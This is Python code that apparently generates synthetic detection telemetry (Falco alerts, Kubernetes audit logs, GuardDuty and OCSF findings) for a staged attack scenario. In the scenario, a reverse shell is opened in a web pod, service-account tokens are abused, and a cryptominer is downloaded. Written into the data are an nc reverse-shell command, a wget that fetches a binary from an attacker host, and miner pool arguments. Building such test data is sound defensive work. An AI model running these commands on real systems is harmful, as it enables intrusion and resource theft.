# Scenario 1: web-pod-miner (prod-shop, us-west-2, 2026-03-20)
# =============================================================================================
W = {}   # names shared by the web-pod-miner builders


def wpm_world():
    global S
    S = Scenario("web-pod-miner", 20260320, "111122223333", "us-west-2", "prod-shop", "2026-03-20")
    S.cp_ips = ["10.20.100.17", "10.20.101.203"]
    S.detector = "8bd2f4a6c8e0b2d4f6a8c0e2b4d6f8a0"
    W.clear()
    W["ecr"] = ecr = f"{S.account}.dkr.ecr.{S.region}.amazonaws.com"
    W["web_image"] = f"{ecr}/shop/web:2026.03.18-2"
    W["cart_image"] = f"{ecr}/shop/cart:2026.03.11-1"
    W["ng"] = "prod-shop-general"
    W["ami"] = "ami-07d1e2f3a4b5c6d78"
    W["node_role"], W["node_role_id"] = "prod-shop-node-role", "AROARQ4WZT7KNODESHOP"
    W["vpc"], W["sg"] = "vpc-0b1c2d3e4f5a60718", "sg-0c2d4e6f8a0b1c3d5"
    W["subnets"] = {"us-west-2b": "subnet-0b2c4d6e8f0a1b3c5", "us-west-2c": "subnet-0c3d5e7f9a1b2c4d6"}
    W["nat"] = "198.51.100.30"
    W["attacker"], W["pool_ip"], W["pool"] = "203.0.113.66", "203.0.113.88", "pool.supportxmr.com"
    A = Node("ip-10-20-3-14.us-west-2.compute.internal", "10.20.3.14", "i-0f1e2d3c4b5a69788", "us-west-2b",
             "ASIARQ4WZT7KSHOPNDA1", "2026-03-09T03:12:40Z", W["ng"])
    B = Node("ip-10-20-5-201.us-west-2.compute.internal", "10.20.5.201", "i-0a9b8c7d6e5f40312", "us-west-2c",
             "ASIARQ4WZT7KSHOPNDB2", "2026-03-09T03:12:47Z", W["ng"])
    W["nodes"] = [A, B]
    W["A"], W["B"] = A, B
    W["web_rs"] = "web-7d4b9c8f6"
    W["web_labels"] = {"app": "web", "tier": "frontend"}
    W["web_pods"] = [("web-7d4b9c8f6-x2k9p", A, "10.20.3.57"), ("web-7d4b9c8f6-m4vtz", B, "10.20.5.112"),
                     ("web-7d4b9c8f6-r5n7d", B, "10.20.5.38")]
    W["cart_rs"] = "cart-5f6d7c8b9"
    W["cart_pods"] = [("cart-5f6d7c8b9-k3j8s", A, "10.20.3.91"), ("cart-5f6d7c8b9-p9w2l", B, "10.20.5.77")]
    W["pod"], W["pod_ip"] = "web-7d4b9c8f6-x2k9p", "10.20.3.57"
    W["pod_uid"] = stable_uuid("pod/shop/web-7d4b9c8f6-x2k9p")
    W["cid"] = container_id("shop", W["pod"], "web")
    W["web_created"] = T("14:02:11", "2026-03-18")
    W["cart_created"] = T("09:40:27", "2026-03-11")
    W["wallet"] = "4" + "".join(random.Random(7).choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))
    W["miner_path"] = "/tmp/.font-unix/kworkerd"
    W["miner_args"] = f"-o {W['pool']}:3333 -u {W['wallet']} -p prod-shop -k --donate-level 1 -B"
    W["miner_sha"] = sha("miner")
    W["snap"] = T("03:05:00")


def web_container(image):
    return {"name": "web", "image": image, "ports": [{"name": "http", "containerPort": 3000, "protocol": "TCP"}],
            "env": [{"name": "NODE_ENV", "value": "production"}, {"name": "CART_URL", "value": "http://cart.shop.svc:8080"}],
            "resources": {"limits": {"memory": "512Mi"}, "requests": {"cpu": "200m", "memory": "256Mi"}},
            "securityContext": {"runAsUser": 1000, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}


def cart_container(image):
    return {"name": "cart", "image": image, "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
            "resources": {"limits": {"memory": "512Mi"}, "requests": {"cpu": "100m", "memory": "256Mi"}},
            "securityContext": {"runAsUser": 10001, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}


def wpm_sys_pods():
    """(name, ns, node, ip, kind, owner, image, sa)"""
    A, B = W["A"], W["B"]
    eks = "602401143452.dkr.ecr.us-west-2.amazonaws.com"
    out = []
    for n, sfx in ((A, ("t8kqz", "9xw4c", "j2m7p", "fd8kq")), (B, ("v3nrl", "b6tzs", "h4x9w", "q7cln"))):
        out.append((f"aws-node-{sfx[0]}", "kube-system", n, n.ip, "DaemonSet", "aws-node",
                    f"{eks}/amazon-k8s-cni:v1.19.2-eksbuild.1", "aws-node"))
        out.append((f"kube-proxy-{sfx[1]}", "kube-system", n, n.ip, "DaemonSet", "kube-proxy",
                    f"{eks}/eks/kube-proxy:v1.31.3-minimal-eksbuild.2", "kube-proxy"))
        out.append((f"falco-{sfx[2]}", "falco", n, n.prefix + str(200 + len(out)), "DaemonSet", "falco",
                    "public.ecr.aws/falcosecurity/falco:0.39.2", "falco"))
        out.append((f"aws-guardduty-agent-{sfx[3]}", "amazon-guardduty", n, n.ip, "DaemonSet", "aws-guardduty-agent",
                    "039403964562.dkr.ecr.us-west-2.amazonaws.com/aws-guardduty-agent:v1.8.0", "aws-guardduty-agent"))
    out.append(("coredns-6b9575c64c-2kq8d", "kube-system", A, "10.20.3.120", "ReplicaSet", "coredns-6b9575c64c",
                f"{eks}/eks/coredns:v1.11.3-eksbuild.2", "coredns"))
    out.append(("coredns-6b9575c64c-w7fhd", "kube-system", B, "10.20.5.63", "ReplicaSet", "coredns-6b9575c64c",
                f"{eks}/eks/coredns:v1.11.3-eksbuild.2", "coredns"))
    return out


def wpm_attack():
    A = W["A"]
    pod, ns, pip, atk = W["pod"], "shop", W["pod_ip"], W["attacker"]
    cid12 = W["cid"][:12]
    repo, tag = W["web_image"].split(":")
    ctext = container_text(pod, ns, cid12, repo, tag, "web")
    cfields = container_fields(pod, ns, cid12, repo, tag, "web")
    X = dict(hostname=A.name)
    nc_cmd = f"nc {atk} 4444 -e /bin/sh"
    # 1. RCE in the Node.js app: node spawns sh -c "nc ... -e /bin/sh"
    t = T("02:13:41.502318")
    falco(t, 611, "Netcat Remote Code Execution in Container", "Warning",
          tags=["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"],
          message="Netcat runs inside container that allows remote code execution",
          text_fields=proc_text("execve", "node", 1000, "nc", "/bin/busybox", "sh", nc_cmd, 0) + ctext,
          fields=dict(cfields, **proc_fields("execve", "node", 1000, "nc", "/bin/busybox", "sh", nc_cmd, 0, 48811),
                      **{"evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER"}),
          step="runtime-rce-reverse-shell", **X)
    t2 = T("02:13:41.733904")
    falco(t2, 87, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
          tags=["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"],
          message="Redirect stdout/stdin to network connection",
          text_fields=[("gparent", "node"), ("ggparent", "containerd-shim"), ("gggparent", "<NA>"), ("fd.sip", atk),
                       ("connection", f"{pip}:40212->{atk}:4444"), ("lport", "40212"), ("rport", "4444"), ("fd_type", "ipv4"),
                       ("fd_proto", "tcp")] + proc_text("dup2", "node", 1000, "nc", "/bin/busybox", "sh", nc_cmd, 0) + ctext,
          fields=dict(cfields, **proc_fields("dup2", "node", 1000, "nc", "/bin/busybox", "sh", nc_cmd, 0, 48811),
                      **{"fd.l4proto": "tcp", "fd.lport": 40212, "fd.name": f"{pip}:40212->{atk}:4444", "fd.rport": 4444,
                         "fd.sip": atk, "fd.type": "ipv4", "proc.aname[2]": "node", "proc.aname[3]": "containerd-shim",
                         "proc.aname[4]": None}),
          step="runtime-rce-reverse-shell", **X)
    # 2. the shell reads the token and calls the API server with busybox wget
    t3 = T("02:15:37.118460")
    wget_cmd = ("wget -qO- --no-check-certificate --header Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6... "
                "https://kubernetes.default.svc/api/v1/namespaces/shop/secrets")
    falco(t3, 402, "Contact K8S API Server From Container", "Notice",
          tags=["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
          message="Unexpected connection to K8s API Server from container",
          text_fields=[("connection", f"{pip}:43718->172.20.0.1:443"), ("lport", "43718"), ("rport", "443"), ("fd_type", "ipv4"),
                       ("fd_proto", "tcp")] + proc_text("connect", "node", 1000, "wget", "/bin/busybox", "sh", wget_cmd, 0) + ctext,
          fields=dict(cfields, **proc_fields("connect", "node", 1000, "wget", "/bin/busybox", "sh", wget_cmd, 0, 49120),
                      **{"fd.l4proto": "tcp", "fd.lport": 43718, "fd.name": f"{pip}:43718->172.20.0.1:443", "fd.rport": 443,
                         "fd.type": "ipv4"}),
          step="k8s-sa-token-abuse", **X)
    user = u_sa("shop", "web", pod, W["pod_uid"], A, jti="4f1c2b7e-9a3d-4e8b-b6c5-1d2e3f4a5b6c")
    uname = user["username"]
    K = dict(user=user, src=[pip], ua="Wget", label="attack", step="k8s-sa-token-abuse")
    audit(ms(t3, 300, 400), verb="list", uri="/api/v1/namespaces/shop/secrets", objref=oref("secrets", "shop"),
          decision="forbid", rstatus=forbidden(uname, "list", "secrets", "shop"), **K)
    audit(T("02:15:52.640117"), verb="list", uri="/api/v1/secrets", objref=oref("secrets"),
          decision="forbid", rstatus=forbidden(uname, "list", "secrets"), **K)
    audit(T("02:16:10.271903"), verb="list", uri="/api/v1/namespaces/shop/pods", objref=oref("pods", "shop"), level="Request",
          reason=rb_reason("web-pod-reader", "shop", "Role", "web-pod-reader", "ServiceAccount", "web"), **K)
    audit(T("02:16:31.905226"), verb="list", uri="/api/v1/namespaces/kube-system/pods", objref=oref("pods", "kube-system"),
          level="Request", decision="forbid", rstatus=forbidden(uname, "list", "pods", "kube-system"), **K)
    rr = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
          "spec": {"namespace": "shop"}, "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False}}
    audit(T("02:16:48.377051"), verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
          objref=oref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201, level="RequestResponse", req=rr,
          resp=dict(rr, status={"resourceRules": [{"verbs": ["get", "list"], "apiGroups": [""], "resources": ["pods"]},
                                                  {"verbs": ["create"], "apiGroups": ["authorization.k8s.io"],
                                                   "resources": ["selfsubjectaccessreviews", "selfsubjectrulesreviews"]}],
                                "nonResourceRules": [{"verbs": ["get"], "nonResourceURLs": ["/api", "/api/*", "/apis", "/apis/*",
                                                                                            "/healthz", "/livez", "/readyz", "/version", "/version/"]}],
                                "incomplete": False}),
          reason=crb_reason("system:basic-user", "system:basic-user", "Group", "system:authenticated"), **K)
    audit(T("02:17:05.552398"), verb="list", uri="/api/v1/namespaces/shop/configmaps", objref=oref("configmaps", "shop"),
          decision="forbid", rstatus=forbidden(uname, "list", "configmaps", "shop"), **K)
    audit(T("02:17:19.064811"), verb="get", uri="/api/v1/namespaces/shop/secrets/web-session-key",
          objref=oref("secrets", "shop", "web-session-key"), decision="forbid",
          rstatus=forbidden(uname, "get", "secrets", "shop"), **K)
    # 3. the miner: downloaded with wget, made executable, run
    drop = T("02:18:09.912044")
    run = T("02:18:13.406275")
    mcmd = "kworkerd " + W["miner_args"]
    mpath = W["miner_path"]
    drop_ns, run_ns = epoch_ns(drop, 311), epoch_ns(run, 58)
    start_ns = epoch_ns(W["web_created"] + timedelta(seconds=6))
    falco(run, 58, "Drop and execute new binary in container", "Critical",
          tags=["T1036", "container", "maturity_stable", "mitre_defense_evasion", "mitre_persistence", "process"],
          message="Executing binary not part of base image",
          text_fields=[("proc_exe", mpath), ("proc_sname", "sh"), ("gparent", "nc"), ("proc_exe_ino_ctime", str(drop_ns)),
                       ("proc_exe_ino_mtime", str(drop_ns)), ("proc_exe_ino_ctime_duration_proc_start", str(run_ns - drop_ns)),
                       ("proc_cwd", "/tmp/.font-unix/"), ("container_start_ts", str(start_ns))]
                      + proc_text("execve", "node", 1000, "kworkerd", mpath, "sh", mcmd, 0)
                      + [("exe_flags", "EXE_WRITABLE|EXE_UPPER_LAYER")] + ctext,
          fields=dict(cfields, **proc_fields("execve", "node", 1000, "kworkerd", mpath, "sh", mcmd, 0, 49377),
                      **{"container.start_ts": start_ns, "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER", "proc.aname[2]": "nc",
                         "proc.cwd": "/tmp/.font-unix/", "proc.exe": mpath, "proc.exe_ino.ctime": drop_ns,
                         "proc.exe_ino.mtime": drop_ns, "proc.exe_ino.ctime_duration_proc_start": run_ns - drop_ns,
                         "proc.sname": "sh"}),
          step="runtime-miner", **X)
    conn = T("02:18:14.020931")
    pool = f"{pip}:51522->{W['pool_ip']}:3333"
    falco(conn, 774, "Detect outbound connections to common miner pool ports", "Critical",
          tags=["T1496", "maturity_sandbox", "mitre_impact", "network"],
          message="Outbound connection to IP/Port flagged by https://cryptoioc.ch",
          text_fields=[("ip", W["pool_ip"]), ("port", "3333"), ("login", pool), ("command", mcmd), ("pid", "49377")]
                      + proc_text("connect", "node", 1000, "kworkerd", mpath, "sh", mcmd, 0)[:-2] + [("terminal", "0")] + ctext,
          fields=dict(cfields, **proc_fields("connect", "node", 1000, "kworkerd", mpath, "sh", mcmd, 0, 49377),
                      **{"fd.name": pool, "fd.rip": W["pool_ip"], "fd.rport": 3333, "fd.sip.name": W["pool"]}),
          step="runtime-miner", **X)
    W["t"] = {"rce": t, "api": t3, "drop": drop, "run": run, "conn": conn}


def wpm_instance_details(n):
    return {"instanceId": n.instance, "instanceType": n.itype, "launchTime": n.launched.replace("Z", ".000Z"),
            "platform": None, "productCodes": [],
            "iamInstanceProfile": {"arn": f"arn:aws:iam::{S.account}:instance-profile/eks-{W['ng']}-4e2c8a6b-0d1f-3b5a-9c7e-1a3b5c7d9e0f",
                                   "id": "AIPARQ4WZT7KSHOPPRF3"},
            "networkInterfaces": [{"ipv6Addresses": [], "networkInterfaceId": "eni-0" + hashlib.md5(n.instance.encode()).hexdigest()[:16],
                                   "privateDnsName": n.name, "privateIpAddress": n.ip,
                                   "privateIpAddresses": [{"privateDnsName": n.name, "privateIpAddress": n.ip}],
                                   "subnetId": W["subnets"][n.zone], "vpcId": W["vpc"],
                                   "securityGroups": [{"groupName": "eks-cluster-sg-prod-shop-1702003344", "groupId": W["sg"]}]}],
            "outpostArn": None,
            "tags": [{"key": "eks:cluster-name", "value": S.cluster}, {"key": "eks:nodegroup-name", "value": W["ng"]},
                     {"key": f"kubernetes.io/cluster/{S.cluster}", "value": "owned"}, {"key": "aws:eks:cluster-name", "value": S.cluster}],
            "instanceState": "running", "availabilityZone": n.zone, "imageId": W["ami"],
            "imageDescription": "EKS-optimized Kubernetes node based on Amazon Linux 2023, (k8s: 1.31.4, containerd: 1.7.*)"}


def wpm_guardduty():
    A = W["A"]
    cluster = {"name": S.cluster, "arn": S.cluster_arn, "vpcId": W["vpc"], "status": "ACTIVE",
               "tags": [{"key": "env", "value": "production"}, {"key": "team", "value": "shop"}],
               "createdAt": epoch(T("16:20:05.118", "2025-09-01"))}
    workload = {"name": W["pod"], "type": "pods", "uid": W["pod_uid"], "namespace": "shop", "hostNetwork": False,
                "containers": [{"name": "web", "image": W["web_image"], "imagePrefix": W["ecr"],
                                "securityContext": {"privileged": False, "allowPrivilegeEscalation": False}}]}
    container = {"containerRuntime": "containerd", "id": W["cid"], "name": "web", "image": W["web_image"],
                 "imagePrefix": W["ecr"], "securityContext": {"privileged": False, "allowPrivilegeEscalation": False}}
    res = {"resourceType": "EKSCluster", "eksClusterDetails": cluster,
           "kubernetesDetails": {"kubernetesWorkloadDetails": workload},
           "instanceDetails": wpm_instance_details(A), "containerDetails": container}
    tt = W["t"]
    node_uuid, sh_uuid, nc_uuid, miner_uuid = ("2a4c6e8f-0b1d-4f3a-8c5e-7a9b1c3d5e7f", "6c8e0a2b-4d6f-4a1c-9e3b-5d7f9a1c3e5b",
                                               "8e0a2c4d-6f8b-4c3e-a1d5-7f9b1d3f5a7c", "0a2c4e6f-8b0d-4e5a-b3c7-9d1f3b5d7f9a")
    lineage_shell = [{"startTime": epoch(tt["rce"] - timedelta(milliseconds=40)), "namespacePid": 212, "userId": 1000, "name": "sh",
                      "pid": 48807, "uuid": sh_uuid, "executablePath": "/bin/busybox", "euid": 1000, "parentUuid": node_uuid},
                     {"startTime": epoch(W["web_created"] + timedelta(seconds=6)), "namespacePid": 1, "userId": 1000, "name": "node",
                      "pid": 3518, "uuid": node_uuid, "executablePath": "/usr/local/bin/node", "euid": 1000,
                      "parentUuid": "4c6e8a0b-2d4f-4b7c-8e9a-1b3d5f7a9c1e"}]
    nc_proc = {"name": "nc", "executablePath": "/bin/busybox", "executableSha256": sha("busybox"), "namespacePid": 216, "pwd": "/app",
               "pid": 48811, "startTime": epoch(tt["rce"]), "uuid": nc_uuid, "parentUuid": sh_uuid, "user": "node", "userId": 1000,
               "euid": 1000, "lineage": lineage_shell}
    finding("d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2c4", "Execution:Runtime/ReverseShell", 8,
            "A process in a container has created a reverse shell.",
            f"A process nc in container web of pod {W['pod']} on EKS Cluster {S.cluster} has created a reverse shell "
            f"to remote host {W['attacker']}.",
            copy.deepcopy(res),
            service_block(tt["rce"], tt["rce"], 1, {}, feature="RuntimeMonitoring", extra={"runtimeDetails": {"process": nc_proc}}),
            T("02:19:03.417"), T("02:19:03.417"), step="detect-reverse-shell")
    miner_proc = {"name": "kworkerd", "executablePath": W["miner_path"], "executableSha256": W["miner_sha"], "namespacePid": 391,
                  "pwd": "/tmp/.font-unix", "pid": 49377, "startTime": epoch(tt["run"]), "uuid": miner_uuid, "parentUuid": sh_uuid,
                  "user": "node", "userId": 1000, "euid": 1000,
                  "lineage": [{"startTime": epoch(tt["rce"] + timedelta(milliseconds=200)), "namespacePid": 219, "userId": 1000,
                               "name": "sh", "pid": 48815, "uuid": sh_uuid, "executablePath": "/bin/busybox", "euid": 1000,
                               "parentUuid": nc_uuid}] + lineage_shell[1:]}
    finding("e6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e6", "Execution:Runtime/NewBinaryExecuted", 5,
            "A newly created or recently modified binary file has been executed in a container.",
            f"A newly created or recently modified binary file {W['miner_path']} has been executed in container web "
            f"of pod {W['pod']} on EKS Cluster {S.cluster}.",
            copy.deepcopy(res),
            service_block(tt["run"], tt["run"], 1, {}, feature="RuntimeMonitoring",
                          extra={"runtimeDetails": {"process": miner_proc, "context": {"modifyingProcess": {
                              "name": "wget", "executablePath": "/bin/busybox", "pid": 49301, "namespacePid": 370,
                              "uuid": "1b3d5f7a-9c1e-4a3b-8d5f-7a9c1e3b5d7f", "userId": 1000, "euid": 1000,
                              "startTime": epoch(tt["drop"] - timedelta(milliseconds=900))}, "modifiedAt": epoch(tt["drop"])}}}),
            T("02:23:40.092"), T("02:23:40.092"), step="detect-new-binary")
    act = {"actionType": "DNS_REQUEST", "dnsRequestAction": {"domain": W["pool"], "protocol": "UDP", "blocked": False,
                                                             "domainWithSuffix": "supportxmr.com"}}
    finding("f8c0e2b4d6f8a0c2e4b6d8f0a2c4e6a8", "CryptoCurrency:Runtime/BitcoinTool.B!DNS", 8,
            "A container is querying a domain name that is associated with cryptocurrency-related activity.",
            f"The container web of pod {W['pod']} on EKS Cluster {S.cluster} is querying domain name {W['pool']} "
            "that is associated with cryptocurrency-related activity.",
            copy.deepcopy(res),
            service_block(tt["conn"] - timedelta(milliseconds=190), T("02:41:17.553"), 9, act, feature="RuntimeMonitoring",
                          extra={"runtimeDetails": {"process": miner_proc}}),
            T("02:24:12.731"), T("02:44:58.206"), step="detect-crypto-mining")


def wpm_ocsf():
    A = W["A"]
    tt = W["t"]
    seen, logged = T("02:18:16.305"), T("02:18:22.918")
    digest = {"algorithm_id": 3, "algorithm": "SHA-256", "value": W["miner_sha"]}
    repo, tag = W["web_image"].split(":")
    container = {"uid": W["cid"], "name": "web", "runtime": "containerd", "orchestrator": "Kubernetes", "pod_uuid": W["pod_uid"],
                 "image": {"uid": "sha256:" + hashlib.sha256(W["web_image"].encode()).hexdigest(), "name": repo, "tag": tag}}
    miner = {"pid": 49377, "name": "kworkerd", "cmd_line": W["miner_path"] + " " + W["miner_args"],
             "uid": "0a2c4e6f-8b0d-4e5a-b3c7-9d1f3b5d7f9a", "created_time": epoch_ms(tt["run"]),
             "user": {"name": "node", "uid": "1000", "type_id": 1, "type": "User"},
             "file": {"name": "kworkerd", "path": W["miner_path"], "type_id": 1, "type": "Regular File", "size": 6291456,
                      "hashes": [digest], "created_time": epoch_ms(tt["drop"])},
             "parent_process": {"pid": 48815, "name": "sh", "cmd_line": "/bin/sh", "file": {"name": "busybox", "path": "/bin/busybox", "type_id": 1},
                                "parent_process": {"pid": 48811, "name": "nc", "cmd_line": f"nc {W['attacker']} 4444 -e /bin/sh",
                                                   "container": container},
                                "container": container},
             "container": container}
    uidf = "det-20260320-0218-3c9e1a7f5b2d"
    return {
        "activity_id": 1, "activity_name": "Create", "category_name": "Findings", "category_uid": 2,
        "class_name": "Detection Finding", "class_uid": 2004, "type_uid": 200401, "type_name": "Detection Finding: Create",
        "time": epoch_ms(seen), "start_time": epoch_ms(tt["rce"]), "end_time": epoch_ms(seen), "count": 1,
        "severity_id": 4, "severity": "High", "status_id": 1, "status": "New",
        "confidence_id": 3, "confidence": "High", "confidence_score": 91, "risk_level_id": 3, "risk_level": "High", "risk_score": 84,
        "message": f"Cryptocurrency miner started from a reverse shell in container web (pod shop/{W['pod']}) on {A.name}",
        "finding_info": {
            "uid": uidf,
            "title": "Cryptocurrency miner executed from a reverse shell spawned by a web server process",
            "desc": (f"The Node.js server process in container web spawned sh and nc connected back to {W['attacker']}:4444. "
                     f"From that shell, {W['miner_path']} was downloaded with wget and executed 3 seconds later; it resolved "
                     f"{W['pool']} and connected to {W['pool_ip']}:3333."),
            "types": ["Cryptominer", "Reverse Shell"],
            "created_time": epoch_ms(seen), "first_seen_time": epoch_ms(tt["rce"]), "last_seen_time": epoch_ms(seen),
            "analytic": {"uid": "LNX-CM-0427", "name": "Miner with pool connection from an interactive shell", "type_id": 1,
                         "type": "Rule", "category": "Cryptomining"},
            "attacks": [{"version": "v16", "tactic": {"uid": "TA0040", "name": "Impact"},
                         "technique": {"uid": "T1496", "name": "Resource Hijacking"}},
                        {"version": "v16", "tactic": {"uid": "TA0001", "name": "Initial Access"},
                         "technique": {"uid": "T1190", "name": "Exploit Public-Facing Application"}},
                        {"version": "v16", "tactic": {"uid": "TA0002", "name": "Execution"},
                         "technique": {"uid": "T1059.004", "name": "Unix Shell"}}],
            "data_sources": ["Process", "Network Connection", "File"],
            "src_url": f"https://console.edr.example.com/detections/{uidf}"},
        "device": {"type_id": 6, "type": "Virtual", "uid": "3c5e7a9b-1d3f-4a5c-8e7a-9b1d3f5a7c9e", "hostname": A.name, "name": A.name,
                   "ip": A.ip, "instance_uid": A.instance, "region": S.region,
                   "image": {"uid": W["ami"], "name": "amazon-eks-node-al2023-x86_64-standard-1.31-v20260301"},
                   "os": {"name": "Amazon Linux", "version": "2023", "type_id": 100, "type": "Linux",
                          "kernel_release": "6.1.128-136.201.amzn2023.x86_64"}},
        "cloud": {"provider": "AWS", "region": S.region, "zone": A.zone, "account": {"uid": S.account, "type_id": 10, "type": "AWS Account"}},
        "actor": {"process": miner},
        "evidences": [
            {"process": miner, "src_endpoint": {"ip": W["pod_ip"], "port": 51522}, "dst_endpoint": {"ip": W["pool_ip"], "port": 3333,
                                                                                                     "hostname": W["pool"]},
             "connection_info": {"direction_id": 2, "direction": "Outbound", "protocol_num": 6, "protocol_name": "tcp"}},
            {"process": {"pid": 48811, "name": "nc", "cmd_line": f"nc {W['attacker']} 4444 -e /bin/sh", "container": container},
             "src_endpoint": {"ip": W["pod_ip"], "port": 40212}, "dst_endpoint": {"ip": W["attacker"], "port": 4444},
             "connection_info": {"direction_id": 2, "direction": "Outbound", "protocol_num": 6, "protocol_name": "tcp"}},
            {"process": {"pid": 49301, "name": "wget", "cmd_line": f"wget -q http://{W['attacker']}:8000/kworkerd -O {W['miner_path']}",
                         "container": container},
             "file": {"name": "kworkerd", "path": W["miner_path"], "type_id": 1, "hashes": [digest]},
             "dst_endpoint": {"ip": W["attacker"], "port": 8000}},
        ],
        "resources": [
            {"uid": A.instance, "name": A.name, "type": "AWS::EC2::Instance", "region": S.region, "cloud_partition": "aws",
             "labels": [f"eks:cluster-name={S.cluster}", f"eks:nodegroup-name={W['ng']}"]},
            {"uid": W["pod_uid"], "name": f"shop/{W['pod']}", "type": "Kubernetes Pod",
             "labels": [f"cluster={S.cluster}", "app=web", "tier=frontend"]},
        ],
        "observables": [
            {"name": "evidences[].dst_endpoint.ip", "type_id": 2, "type": "IP Address", "value": W["pool_ip"]},
            {"name": "evidences[].dst_endpoint.ip", "type_id": 2, "type": "IP Address", "value": W["attacker"]},
            {"name": "evidences[].dst_endpoint.hostname", "type_id": 1, "type": "Hostname", "value": W["pool"]},
            {"name": "actor.process.file.hashes[].value", "type_id": 8, "type": "Hash", "value": W["miner_sha"]},
            {"name": "device.hostname", "type_id": 1, "type": "Hostname", "value": A.name},
        ],
        "remediation": {"desc": "Kill the process, isolate the pod with a deny-all NetworkPolicy, and rebuild it from a patched image."},
        "metadata": {"version": "1.1.0", "uid": "7e9a1c3b-5d7f-4b9a-8c1e-3a5b7c9d1e3f", "logged_time": epoch_ms(logged),
                     "log_name": "detections", "profiles": ["cloud", "container", "host"],
                     "product": {"name": "Cloud Workload Sensor", "vendor_name": "Example EDR Vendor", "version": "7.4.2", "uid": "cws",
                                 "feature": {"name": "Behavioral Detection"}}},
        "unmapped": {"sensor_id": "3c5e7a9b-1d3f-4a5c-8e7a-9b1d3f5a7c9e", "policy": "Linux Servers - Protect"},
    }


KUBELET_131 = "kubelet/v1.31.4-eks-aeac579 (linux/amd64) kubernetes/aeac579"
SERVER_131 = "v1.31.5-eks-8cce635"


def node_lease(n, t, ua, role, role_id, step="background"):
    audit(t, u_node(n, role, role_id), "update", f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{n.name}?timeout=10s",
          oref("leases", "kube-node-lease", n.name, "coordination.k8s.io"), ua=ua, src=[n.ip], level="RequestResponse" if False else "Metadata",
          reason="", step=step)


def cp_lease(t, who, server, step="background"):
    ua = (f"kube-controller-manager/{server} (linux/amd64) kubernetes/{server[-7:]}/leader-election" if who == "kube-controller-manager"
          else f"kube-scheduler/{server} (linux/amd64) kubernetes/{server[-7:]}/leader-election")
    user = u_plain(f"system:{who}", ["system:authenticated"])
    audit(t, user, "update", f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{who}?timeout=5s",
          oref("leases", "kube-system", who, "coordination.k8s.io"), ua=ua, src=[S.rng.choice(S.cp_ips)],
          reason=crb_reason(f"system:{who}", f"system:{who}", "User", f"system:{who}"), step=step)


def node_status(n, t, ua, role, role_id, step="background"):
    audit(t, u_node(n, role, role_id), "patch", f"/api/v1/nodes/{n.name}/status?timeout=10s",
          oref("nodes", None, n.name, sub="status"), ua=ua, src=[n.ip], level="RequestResponse",
          req={"status": {"$setElementOrder/conditions": [{"type": c} for c in ("MemoryPressure", "DiskPressure", "PIDPressure", "Ready")],
                          "conditions": [{"lastHeartbeatTime": iso_s(t), "type": "Ready"}]}},
          resp={"kind": "Node", "apiVersion": "v1", "metadata": {"name": n.name, "uid": n.uid}}, step=step)


def wpm_background():
    role, rid = W["node_role"], W["node_role_id"]
    t = T("01:50:04.281330")
    end = T("02:58:00")
    i = 0
    while t < end:
        k = i % 6
        n = W["nodes"][i % 2]
        if k == 0:
            node_lease(n, t, KUBELET_131, role, rid)
        elif k == 1:
            cp_lease(t, "kube-controller-manager", SERVER_131)
        elif k == 2:
            node_lease(n, t, KUBELET_131, role, rid)
        elif k == 3:
            cp_lease(t, "kube-scheduler", SERVER_131)
        elif k == 4:
            audit(t, u_plain("eks:k8s-metrics", ["system:authenticated"]), "get", "/metrics", ua="Go-http-client/1.1",
                  reason=crb_reason("eks:k8s-metrics", "eks:k8s-metrics", "User", "eks:k8s-metrics"))
        else:
            cd = S.rng.choice(["coredns-6b9575c64c-2kq8d", "coredns-6b9575c64c-w7fhd"])
            cn = W["A"] if cd.endswith("2kq8d") else W["B"]
            recv = t - timedelta(minutes=S.rng.randint(6, 9), seconds=S.rng.randint(0, 59))
            audit(t, u_sa("kube-system", "coredns", cd, stable_uuid(f"pod/kube-system/{cd}"), cn),
                  "watch", "/apis/discovery.k8s.io/v1/endpointslices?allowWatchBookmarks=true&resourceVersion=41882190&timeout=9m1s&timeoutSeconds=541&watch=true",
                  oref("endpointslices", group="discovery.k8s.io"), ua="coredns/v1.11.3 (linux/amd64) kubernetes/coredns",
                  src=["10.20.3.120" if cn is W["A"] else "10.20.5.63"], received=recv,
                  reason=crb_reason("system:coredns", "system:coredns", "ServiceAccount", "coredns/kube-system"))
        i += 1
        t += timedelta(seconds=S.rng.randint(17, 29), microseconds=S.rng.randint(0, 999999))
    # node status every 5 minutes, the web app's own peer discovery every 5 minutes per replica
    for m in range(0, 65, 5):
        base = T("01:51:00") + timedelta(minutes=m)
        for j, n in enumerate(W["nodes"]):
            node_status(n, base + timedelta(seconds=13 + 21 * j, microseconds=S.rng.randint(0, 999999)), KUBELET_131, role, rid)
        for j, (name, n, ip) in enumerate(W["web_pods"]):
            tt = base + timedelta(seconds=40 + 37 * j, microseconds=S.rng.randint(0, 999999))
            audit(tt, u_sa("shop", "web", name, stable_uuid(f"pod/shop/{name}"), n), "list", "/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb",
                  oref("pods", "shop"), ua="node-fetch", src=[ip], level="Request",
                  reason=rb_reason("web-pod-reader", "shop", "Role", "web-pod-reader", "ServiceAccount", "web"), step="app-peer-discovery")
    # kubelet refreshes projected tokens
    for name, n, ip in W["web_pods"] + W["cart_pods"]:
        sa_name = "web" if name.startswith("web") else "cart"
